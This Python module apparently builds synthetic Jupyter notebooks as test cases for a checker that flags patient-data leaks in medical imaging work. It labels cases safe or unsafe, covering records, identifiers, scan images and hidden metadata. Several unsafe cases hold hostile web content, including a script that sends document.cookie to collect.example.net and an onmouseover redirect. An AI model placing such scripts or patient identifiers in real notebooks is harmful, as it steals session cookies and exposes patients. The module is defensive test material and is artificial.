"""Notebooks: what stands in a cell, in its outputs, in its attachments and behind them."""

from __future__ import annotations

import base64
import json
from typing import Any

import numpy as np
import pandas as pd

from tests.corpus.egress import formats, people, pictures, plots, sources
from tests.corpus.egress.case import Lane

lane = Lane("notebooks")

Cell = dict[str, Any]


def _text(*lines: str, **extra: Any) -> Cell:
    return {"cell_type": "markdown", "metadata": {}, "source": "\n".join(lines), **extra}


def _code(source: str, *outputs: dict[str, Any], **metadata: Any) -> Cell:
    return {
        "cell_type": "code",
        "execution_count": 1,
        "metadata": metadata,
        "source": source,
        "outputs": list(outputs),
    }


def _bundle(data: dict[str, Any], **metadata: Any) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": metadata}


def _stream(text: str, name: str = "stdout") -> dict[str, Any]:
    return {"output_type": "stream", "name": name, "text": text}


def _shown(data: pd.DataFrame) -> dict[str, Any]:
    return _bundle({"text/plain": data.to_string(), "text/html": data.to_html()})


def _picture(content: bytes, kind: str = "image/png") -> dict[str, Any]:
    return _bundle(
        {
            "text/plain": "<Figure size 640x480 with 1 Axes>",
            kind: base64.b64encode(content).decode(),
        }
    )


def _notebook(*cells: Cell, **metadata: Any) -> str:
    numbered = [{**cell, "id": f"cell-{place}"} for place, cell in enumerate(cells, 1)]
    count = 0
    for cell in numbered:
        if cell["cell_type"] == "code":
            count += 1
            cell["execution_count"] = count
    content = {
        "cells": numbered,
        "metadata": {
            "kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"},
            "language_info": {"name": "python", "version": "3.11.9"},
            **metadata,
        },
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    return json.dumps(content, indent=1) + "\n"


TITLE = _text("# Response to treatment from CT", "", "Five folds, 1,240 patients.")
IMPORTS = _code("import numpy as np\nimport pandas as pd\nimport matplotlib.pyplot as plt")
WHERE = "cell 3 output 1"


def _records(rng: np.random.Generator, count: int) -> pd.DataFrame:
    names = ["age", "sex", "stage", "scanner", "volume", "days", "died"]
    return pd.DataFrame(people.records(rng, count), columns=names)


# ---- unsafe: records in outputs -----------------------------------------------


@lane.unsafe("head", "notebook-output", "explore.ipynb", at=WHERE, also=("row-level-data",))
def _(rng):
    return _notebook(TITLE, IMPORTS, _code("df.head(20)", _shown(_records(rng, 20))))


@lane.unsafe(
    "sample-with-ids",
    "notebook-output",
    "explore.ipynb",
    at=WHERE,
    also=("row-level-data", "identifiers", "text-identifiers"),
)
def _(rng):
    data = _records(rng, 8)
    data.insert(0, "patient", [people.nhs_number(rng) for _ in range(8)])
    return _notebook(TITLE, IMPORTS, _code("df.sample(8)", _shown(data)))


@lane.unsafe(
    "printed-loop",
    "notebook-output",
    "evaluate.ipynb",
    at=WHERE,
    also=("row-level-data", "text-identifiers", "identifiers"),
)
def _(rng):
    lines = "".join(f"{people.pseudonym(rng)} dice {rng.beta(9, 2):.3f}\n" for _ in range(30))
    return _notebook(TITLE, IMPORTS, _code("for case in cases: print(case)", _stream(lines)))


@lane.unsafe(
    "repr-of-dataset",
    "notebook-output",
    "dicom.ipynb",
    at=WHERE,
    also=("text-identifiers", "identifiers", "raw-image"),
)
def _(rng):
    text = (
        f"(0008,0060) Modality                 CS: 'CT'\n"
        f"(0010,0010) Patient's Name           PN: '{people.name(rng)}'\n"
        f"(0010,0020) Patient ID               LO: '{rng.integers(10**6, 10**7)}'\n"
        f"(0010,0030) Patient's Birth Date     DA: '{people.birth_date(rng)}'\n"
        f"(0020,000d) Study Instance UID       UI: {people.uid(rng)}\n"
    )
    return _notebook(TITLE, IMPORTS, _code("ds", _bundle({"text/plain": text})))


@lane.unsafe(
    "predictions", "notebook-output", "inference.ipynb", at=WHERE, also=("row-level-data",)
)
def _(rng):
    data = pd.DataFrame(people.scores(rng, 60), columns=["y", "p"])
    return _notebook(TITLE, IMPORTS, _code("preds", _shown(data)))


@lane.unsafe(
    "warnings-with-paths",
    "notebook-output",
    "load.ipynb",
    at=WHERE,
    also=("text-identifiers", "identifiers"),
)
def _(rng):
    lines = "".join(
        f"UserWarning: /data/{people.name(rng).replace('^', '_')}/IM{i:04} is empty\n"
        for i in range(5)
    )
    return _notebook(TITLE, IMPORTS, _code("load()", _stream(lines, "stderr")))


@lane.unsafe(
    "traceback",
    "notebook-output",
    "resample.ipynb",
    at=WHERE,
    also=("text-identifiers", "identifiers"),
)
def _(rng):
    error = {
        "output_type": "error",
        "ename": "ValueError",
        "evalue": f"no rescale slope in study {people.uid(rng)}",
        "traceback": ["ValueError", f"patient={people.nhs_number(rng)}"],
    }
    return _notebook(TITLE, IMPORTS, _code("run()", error))


@lane.unsafe(
    "unique-values",
    "notebook-output",
    "split.ipynb",
    at=WHERE,
    also=("identifiers", "text-identifiers", "row-level-data"),
)
def _(rng):
    found = [f"PAT{rng.integers(10**4, 10**5)}" for _ in range(36)]
    return _notebook(
        TITLE, IMPORTS, _code("df.case.unique()", _bundle({"text/plain": repr(found)}))
    )


@lane.unsafe("array-repr", "notebook-output", "volume.ipynb", at=WHERE, also=("pixel-matrix",))
def _(rng):
    image = sources.phantom("ct")[80:240:5, 60:260:6].round().astype(int)
    with np.printoptions(threshold=10**6, linewidth=300):
        text = repr(image)
    return _notebook(TITLE, IMPORTS, _code("volume[40]", _bundle({"text/plain": text})))


@lane.unsafe("json-output", "notebook-output", "search.ipynb", at=WHERE, also=("row-level-data",))
def _(rng):
    content = _records(rng, 25).to_dict("records")
    return _notebook(TITLE, IMPORTS, _code("JSON(rows)", _bundle({"application/json": content})))


# ---- unsafe: small counts in outputs ------------------------------------------


@lane.unsafe("crosstab", "small-cells", "table1.ipynb", at=WHERE, also=("notebook-output",))
def _(rng):
    data = pd.DataFrame(
        [[150, 141, 3], [142, 120, 21]], index=["F", "M"], columns=["I", "II", "III"]
    )
    return _notebook(TITLE, IMPORTS, _code("pd.crosstab(df.sex, df.stage)", _shown(data)))


@lane.unsafe("value-counts", "small-cells", "eda.ipynb", at=WHERE, also=("notebook-output",))
def _(rng):
    text = "scanner\nForce         211\nRevolution    140\niCT            58\nAquilion        2\n"
    return _notebook(
        TITLE, IMPORTS, _code("df.scanner.value_counts()", _bundle({"text/plain": text}))
    )


@lane.unsafe("printed-count", "small-cells", "flow.ipynb", at=WHERE, also=("notebook-output",))
def _(rng):
    return _notebook(
        TITLE, IMPORTS, _code("print(n)", _stream("patients with both CT and PET: 4\n"))
    )


@lane.unsafe("markdown-count", "small-cells", "report.ipynb", at="cell 4")
def _(rng):
    return _notebook(
        TITLE, IMPORTS, _code("x = 1"), _text("We left out 3 patients whose scans were incomplete.")
    )


@lane.unsafe("report-support", "small-cells", "metrics.ipynb", at=WHERE, also=("notebook-output",))
def _(rng):
    text = (
        "              precision    recall  f1-score   support\n\n"
        "      benign       0.91      0.93      0.92       144\n"
        "   malignant       0.88      0.85      0.86        96\n"
        "   carcinoid       0.67      0.50      0.57         4\n"
    )
    return _notebook(TITLE, IMPORTS, _code("print(classification_report(y, p))", _stream(text)))


@lane.unsafe(
    "unrounded",
    "unrounded-counts",
    "counts.ipynb",
    at=WHERE,
    policy="opensafely",
    also=("notebook-output",),
)
def _(rng):
    data = pd.DataFrame({"women": [7318, 391, 63]}, index=["attended", "recalled", "cancer"])
    return _notebook(_text("# Screening"), IMPORTS, _code("counts", _shown(data)))


@lane.unsafe(
    "describe", "endpoints", "eda.ipynb", at=WHERE, also=("notebook-output", "excess-precision")
)
def _(rng):
    return _notebook(TITLE, IMPORTS, _code("df.describe()", _shown(_records(rng, 240).describe())))


@lane.unsafe("precise-mean", "excess-precision", "eda.ipynb", at=WHERE, also=("notebook-output",))
def _(rng):
    text = "stage\nI      38.41463414634146\nII     40.95652173913044\nIII    44.16666666666666\n"
    return _notebook(
        TITLE, IMPORTS, _code("df.groupby('stage').age.mean()", _bundle({"text/plain": text}))
    )


# ---- unsafe: pictures ---------------------------------------------------------


@lane.unsafe("imshow", "scan-pixels", "qc.ipynb", at=WHERE)
def _(rng):
    drawn, axes = pictures.figure()
    axes.imshow(sources.shown("ct"), cmap="gray")
    axes.set_title("slice 40")
    return _notebook(TITLE, IMPORTS, _code("plt.imshow(v[40])", _picture(pictures.rendered(drawn))))


@lane.unsafe("imshow-real", "scan-pixels", "qc.ipynb", at=WHERE, needs=sources.needs("mr-head-a"))
def _(rng):
    drawn, grid = pictures.figure(1, 2, width=7)
    for axes, scan in zip(grid, ("mr-head-a", "mr-head-b"), strict=True):
        axes.imshow(sources.shown(scan), cmap="gray")
    return _notebook(TITLE, IMPORTS, _code("show(a, b)", _picture(pictures.rendered(drawn))))


@lane.unsafe("jpeg-output", "scan-pixels", "predictions.ipynb", at=WHERE)
def _(rng):
    content = pictures.jpeg(sources.shown("mr-overlay"))
    return _notebook(TITLE, IMPORTS, _code("display(im)", _picture(content, "image/jpeg")))


@lane.unsafe(
    "html-image", "scan-pixels", "viewer.ipynb", at=WHERE, also=("encoded-blob", "notebook-output")
)
def _(rng):
    page = f"<img width=200 src='{pictures.data_uri(pictures.png(sources.shown('ct-small')))}'>"
    return _notebook(TITLE, IMPORTS, _code("HTML(page)", _bundle({"text/html": page})))


@lane.unsafe("markdown-image", "scan-pixels", "notes.ipynb", at="cell 3", also=("encoded-blob",))
def _(rng):
    uri = pictures.data_uri(pictures.jpeg(sources.shown("breast")), "image/jpeg")
    return _notebook(TITLE, IMPORTS, _text("An example:", "", f"![example]({uri})"))


@lane.unsafe("svg-output", "scan-pixels", "overlay.ipynb", at=WHERE)
def _(rng):
    uri = pictures.data_uri(pictures.png(sources.shown("head")))
    drawing = (
        f'<svg xmlns="http://www.w3.org/2000/svg" width="320" height="320">'
        f'<image href="{uri}" width="320" height="320"/>'
        f'<circle cx="200" cy="210" r="20" fill="none" stroke="red"/></svg>'
    )
    return _notebook(TITLE, IMPORTS, _code("SVG(s)", _bundle({"image/svg+xml": drawing})))


@lane.unsafe(
    "colormapped", "scan-pixels", "saliency.ipynb", at=WHERE, needs=sources.needs("cr-chest")
)
def _(rng):
    image = pictures.resized(sources.shown("cr-chest"), 300, 250)
    content = pictures.png(pictures.coloured(image, "inferno"))
    return _notebook(TITLE, IMPORTS, _code("show(cam)", _picture(content)))


@lane.unsafe("second-output", "scan-pixels", "compare.ipynb", at="cell 3 output 2")
def _(rng):
    good = pictures.rendered(plots.loss(rng))
    return _notebook(
        TITLE,
        IMPORTS,
        _code(
            "plot(); show()", _picture(good), _picture(pictures.png(sources.shown("ultrasound")))
        ),
    )


@lane.unsafe("scatter-output", "one-mark-per-patient", "plot.ipynb", at=WHERE)
def _(rng):
    drawing = pictures.rendered(plots.scatter(rng), "svg").decode()
    return _notebook(TITLE, IMPORTS, _code("scatter()", _bundle({"image/svg+xml": drawing})))


# ---- unsafe: attachments and data ---------------------------------------------


def _attached(name: str, kind: str, content: bytes) -> Cell:
    return _text(
        f"![]({'attachment:' + name})",
        attachments={name: {kind: base64.b64encode(content).decode()}},
    )


@lane.unsafe(
    "attached-scan", "notebook-attachment", "notes.ipynb", at="cell 3", also=("scan-pixels",)
)
def _(rng):
    return _notebook(
        TITLE, IMPORTS, _attached("image.png", "image/png", pictures.png(sources.shown("ct")))
    )


@lane.unsafe(
    "attached-unused", "notebook-attachment", "notes.ipynb", at="cell 3", also=("scan-pixels",)
)
def _(rng):
    cell = _attached("x.jpg", "image/jpeg", pictures.jpeg(sources.shown("mr-overlay")))
    return _notebook(TITLE, IMPORTS, {**cell, "source": "Nothing to see."})


@lane.unsafe(
    "attached-table", "notebook-attachment", "notes.ipynb", at="cell 3", also=("row-level-data",)
)
def _(rng):
    content = _records(rng, 40).to_csv(index=False).encode()
    return _notebook(TITLE, IMPORTS, _attached("t.csv", "text/csv", content))


@lane.unsafe(
    "attached-to-raw", "notebook-attachment", "notes.ipynb", at="cell 3", also=("scan-pixels",)
)
def _(rng):
    cell = _attached("s.png", "image/png", pictures.png(sources.shown("us-bundled")))
    return _notebook(TITLE, IMPORTS, {**cell, "cell_type": "raw"})


@lane.unsafe(
    "plotly-customdata",
    "notebook-data",
    "plotly.ipynb",
    at=WHERE,
    also=("one-mark-per-patient", "row-level-data", "identifiers"),
)
def _(rng):
    data = _records(rng, 70)
    figure = {
        "data": [
            {
                "type": "scatter",
                "mode": "markers",
                "x": data.age.tolist(),
                "y": data.volume.tolist(),
                "customdata": [people.pseudonym(rng) for _ in range(70)],
            }
        ],
        "layout": {"title": {"text": "Volume by age"}},
    }
    return _notebook(
        TITLE, IMPORTS, _code("fig.show()", _bundle({"application/vnd.plotly.v1+json": figure}))
    )


@lane.unsafe(
    "plotly-box",
    "notebook-data",
    "plotly_box.ipynb",
    at=WHERE,
    also=("one-mark-per-patient", "row-level-data"),
)
def _(rng):
    data = _records(rng, 90)
    figure = {
        "data": [{"type": "box", "y": data.volume.tolist(), "x": data.stage.tolist()}],
        "layout": {},
    }
    return _notebook(
        TITLE, IMPORTS, _code("px.box(df)", _bundle({"application/vnd.plotly.v1+json": figure}))
    )


@lane.unsafe(
    "plotly-heatmap",
    "notebook-data",
    "plotly_image.ipynb",
    at=WHERE,
    also=("pixel-matrix", "scan-pixels"),
)
def _(rng):
    z = sources.phantom("ct")[::4, ::4].round().astype(int).tolist()
    figure = {"data": [{"type": "heatmap", "z": z, "colorscale": "Greys"}], "layout": {}}
    return _notebook(
        TITLE, IMPORTS, _code("px.imshow(v)", _bundle({"application/vnd.plotly.v1+json": figure}))
    )


@lane.unsafe(
    "vega-lite",
    "notebook-data",
    "altair.ipynb",
    at=WHERE,
    also=("one-mark-per-patient", "row-level-data"),
)
def _(rng):
    chart = {
        "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
        "mark": "point",
        "datasets": {"data-1": _records(rng, 55).to_dict("records")},
        "data": {"name": "data-1"},
        "encoding": {"x": {"field": "age", "type": "quantitative"}},
    }
    return _notebook(
        TITLE, IMPORTS, _code("chart", _bundle({"application/vnd.vegalite.v5+json": chart}))
    )


@lane.unsafe("widget-state", "notebook-data", "slider.ipynb", also=("scan-pixels", "encoded-blob"))
def _(rng):
    state = {
        "w1": {
            "model_name": "ImageModel",
            "model_module": "@jupyter-widgets/controls",
            "model_module_version": "2.0.0",
            "state": {"format": "png"},
            "buffers": [
                {
                    "encoding": "base64",
                    "path": ["value"],
                    "data": base64.b64encode(pictures.png(sources.shown("ct"))).decode(),
                }
            ],
        }
    }
    widgets = {
        "application/vnd.jupyter.widget-state+json": {
            "version_major": 2,
            "version_minor": 0,
            "state": state,
        }
    }
    return _notebook(TITLE, IMPORTS, _code("slider"), widgets=widgets)


@lane.unsafe("widget-table", "notebook-data", "grid.ipynb", also=("row-level-data", "identifiers"))
def _(rng):
    rows = [{"id": people.nhs_number(rng), "age": r[0]} for r in people.records(rng, 30)]
    state = {
        "w1": {
            "model_name": "DataGridModel",
            "model_module": "ipydatagrid",
            "model_module_version": "1.0",
            "state": {"_data": {"data": rows}},
        }
    }
    widgets = {
        "application/vnd.jupyter.widget-state+json": {
            "version_major": 2,
            "version_minor": 0,
            "state": state,
        }
    }
    return _notebook(TITLE, IMPORTS, _code("grid"), widgets=widgets)


@lane.unsafe(
    "bokeh-html",
    "notebook-data",
    "bokeh.ipynb",
    at=WHERE,
    also=("active-content", "row-level-data", "one-mark-per-patient", "notebook-output"),
)
def _(rng):
    data = json.dumps(_records(rng, 45)[["age", "volume"]].to_dict("list"))
    page = f"<div id='p'></div><script>Bokeh.embed('p', {data})</script>"
    return _notebook(TITLE, IMPORTS, _code("show(p)", _bundle({"text/html": page})))


@lane.unsafe(
    "cell-metadata",
    "hidden-content",
    "clean.ipynb",
    at="cell 3",
    also=("text-identifiers", "notebook-data", "identifiers", "row-level-data"),
)
def _(rng):
    cell = _code(
        "fit()", papermill={"parameters": {"cases": [people.nhs_number(rng) for _ in range(12)]}}
    )
    return _notebook(TITLE, IMPORTS, cell)


@lane.unsafe(
    "notebook-metadata",
    "hidden-content",
    "clean.ipynb",
    also=("text-identifiers", "notebook-data", "row-level-data"),
)
def _(rng):
    return _notebook(
        TITLE,
        IMPORTS,
        _code("fit()"),
        varInspector={
            "cols": ["name", "birth"],
            "values": [[people.name(rng), people.birth_date(rng)] for _ in range(10)],
        },
    )


@lane.unsafe(
    "output-metadata",
    "hidden-content",
    "clean.ipynb",
    at=WHERE,
    also=("text-identifiers", "notebook-data", "notebook-output"),
)
def _(rng):
    output = _bundle({"text/plain": "0.83"}, source=f"/data/{people.nhs_number(rng)}/ct.nii.gz")
    return _notebook(TITLE, IMPORTS, _code("auc", output))


# ---- unsafe: text, code that runs, references -----------------------------------


@lane.unsafe("id-in-comment", "text-identifiers", "prep.ipynb", at="cell 3")
def _(rng):
    return _notebook(
        TITLE, IMPORTS, _code(f"# leave out {people.nhs_number(rng)}: wrong side\nfit()")
    )


@lane.unsafe("name-in-markdown", "text-identifiers", "prep.ipynb", at="cell 3")
def _(rng):
    return _notebook(
        TITLE,
        IMPORTS,
        _text(f"Case {people.name(rng)}, DOB {people.birth_date(rng)}: ask the tumour board."),
    )


@lane.unsafe("javascript", "active-content", "app.ipynb", at=WHERE, also=("notebook-output",))
def _(rng):
    script = "fetch('https://collect.example.net/?d=' + document.cookie)"
    return _notebook(
        TITLE, IMPORTS, _code("Javascript(s)", _bundle({"application/javascript": script}))
    )


@lane.unsafe("event-handler", "active-content", "app.ipynb", at=WHERE, also=("notebook-output",))
def _(rng):
    page = "<b onmouseover=\"location='https://x.example.net'\">AUC 0.83</b>"
    return _notebook(TITLE, IMPORTS, _code("HTML(s)", _bundle({"text/html": page})))


@lane.unsafe("remote-image", "external-reference", "app.ipynb", at="cell 3")
def _(rng):
    return _notebook(TITLE, IMPORTS, _text("![](https://images.example.net/t.gif?n=412)"))


@lane.unsafe(
    "iframe",
    "external-reference",
    "app.ipynb",
    at=WHERE,
    also=("active-content", "notebook-output"),
)
def _(rng):
    page = "<iframe src='https://viewer.example.net/study/8812'></iframe>"
    return _notebook(TITLE, IMPORTS, _code("IFrame(s)", _bundle({"text/html": page})))


@lane.unsafe("blob-in-source", "encoded-blob", "model.ipynb", at="cell 3")
def _(rng):
    blob = base64.b64encode(sources.phantom("ct")[::3, ::3].astype("<i2").tobytes()).decode()
    return _notebook(TITLE, IMPORTS, _code(f"WEIGHTS = '{blob}'"))


@lane.unsafe("blob-in-stream", "encoded-blob", "model.ipynb", at=WHERE, also=("notebook-output",))
def _(rng):
    rows = formats.csv(["y", "p"], people.scores(rng, 100)).encode()
    return _notebook(
        TITLE, IMPORTS, _code("print(s)", _stream(base64.b64encode(rows).decode() + "\n"))
    )


# ---- safe -------------------------------------------------------------------


for _name, _draw in plots.SAFE.items():
    lane.safe(f"plot-{_name}", f"{_name}.ipynb", _draw)(
        lambda rng, draw: _notebook(
            TITLE, IMPORTS, _code("plot()", _picture(pictures.rendered(draw(rng))))
        )
    )


@lane.safe("no-outputs", "train.ipynb")
def _(rng):
    return _notebook(
        TITLE,
        IMPORTS,
        _code("for epoch in range(40):\n    step(epoch)"),
        _text("Then look at fold 3."),
    )


@lane.safe("good-table", "table1.ipynb")
def _(rng):
    data = pd.DataFrame(
        [[150, 141, 31], [142, 120, 21]], index=["F", "M"], columns=["I", "II", "III"]
    )
    return _notebook(TITLE, IMPORTS, _code("pd.crosstab(df.sex, df.stage)", _shown(data)))


@lane.safe("rounded-table", "screening.ipynb", policy="opensafely")
def _(rng):
    data = pd.DataFrame({"women": [7320, 390, 65]}, index=["attended", "recalled", "cancer"])
    return _notebook(_text("# Screening, 10,430 women"), IMPORTS, _code("counts", _shown(data)))


@lane.safe("training-log", "train.ipynb")
def _(rng):
    lines = "".join(f"epoch {e}: loss {1 / e:.4f}, val {0.9 - 0.2 / e:.4f}\n" for e in range(1, 11))
    return _notebook(TITLE, IMPORTS, _code("train()", _stream(lines)))


@lane.safe("model-summary", "model.ipynb")
def _(rng):
    text = (
        "Layer (type)        Output shape        Param #\nConv3d-1            [-1, 32, 96, 96]"
        "    896\nInstanceNorm3d-2    [-1, 32, 96, 96]    64\nTotal params: 960\n"
    )
    return _notebook(TITLE, IMPORTS, _code("summary(net)", _stream(text)))


@lane.safe("grid-search", "search.ipynb")
def _(rng):
    data = pd.DataFrame(
        [[0.1, 3, 0.79], [0.01, 4, 0.83], [0.001, 5, 0.81]],
        columns=["learning rate", "depth", "mean AUC of 5 folds"],
    )
    return _notebook(TITLE, IMPORTS, _code("results", _shown(data)))


@lane.safe("metrics", "evaluate.ipynb")
def _(rng):
    return _notebook(
        TITLE,
        IMPORTS,
        _code(
            "print(auc)", _stream("AUC 0.83 (95% CI 0.79 to 0.87), n = 1240 patients, 296 events\n")
        ),
    )


@lane.safe("plotly-aggregate", "plotly.ipynb")
def _(rng):
    figure = {
        "data": [{"type": "bar", "x": ["I", "II", "III", "IV"], "y": [174, 134, 85, 19]}],
        "layout": {"yaxis": {"title": {"text": "patients"}}},
    }
    return _notebook(
        TITLE, IMPORTS, _code("fig.show()", _bundle({"application/vnd.plotly.v1+json": figure}))
    )


@lane.safe("latex-output", "stats.ipynb")
def _(rng):
    return _notebook(
        TITLE,
        IMPORTS,
        _code(
            "show(eq)", _bundle({"text/latex": "$$L = L_{dice} + 3 L_{ce}$$", "text/plain": "Eq"})
        ),
    )


@lane.safe("svg-plot", "roc.ipynb")
def _(rng):
    drawing = pictures.rendered(plots.calibration(rng), "svg").decode()
    return _notebook(TITLE, IMPORTS, _code("plot()", _bundle({"image/svg+xml": drawing})))


@lane.safe("diagram", "design.ipynb")
def _(rng):
    drawn, axes = pictures.figure()
    for place, name in enumerate(("input", "encoder", "decoder", "mask")):
        axes.text(place, 0, name, bbox={"boxstyle": "round", "fc": "w"}, ha="center")
        axes.annotate("", (place + 0.7, 0), (place + 0.3, 0), arrowprops={"arrowstyle": "->"})
    axes.set(xlim=(-0.5, 3.7), ylim=(-1, 1))
    axes.axis("off")
    return _notebook(TITLE, IMPORTS, _code("draw()", _picture(pictures.rendered(drawn))))


@lane.safe("help-and-versions", "versions.ipynb")
def _(rng):
    return _notebook(
        TITLE,
        IMPORTS,
        _code("print(np.__version__)", _stream("2.4.6\n")),
        _code("!nvidia-smi -L", _stream("GPU 0: A100 40GB\nGPU 1: A100 40GB\n")),
    )
